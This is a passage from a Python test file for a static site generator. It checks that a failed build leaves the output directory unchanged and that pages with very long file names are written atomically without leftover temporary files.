    assert proc.stderr.splitlines()[-1] == "Aborted: the build failed; 'site' was left as it was"
    assert snapshot(box.site) == before


# --- Unit checks of fixes that the command line cannot reach ---------------------------------

def test_a_page_with_a_long_name_is_written_atomically(tmp_path):
    """The temporary name beside the target was `.<name>.<random>.tmp`: over 255 bytes for a
    name of 240 or more, an internal error (exit 3). Validation now stops such names first."""
    from generator.site.emit import write_atomic
    target = tmp_path / ("a" * 250 + ".md")
    write_atomic(target, b"text")
    assert target.read_bytes() == b"text"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]
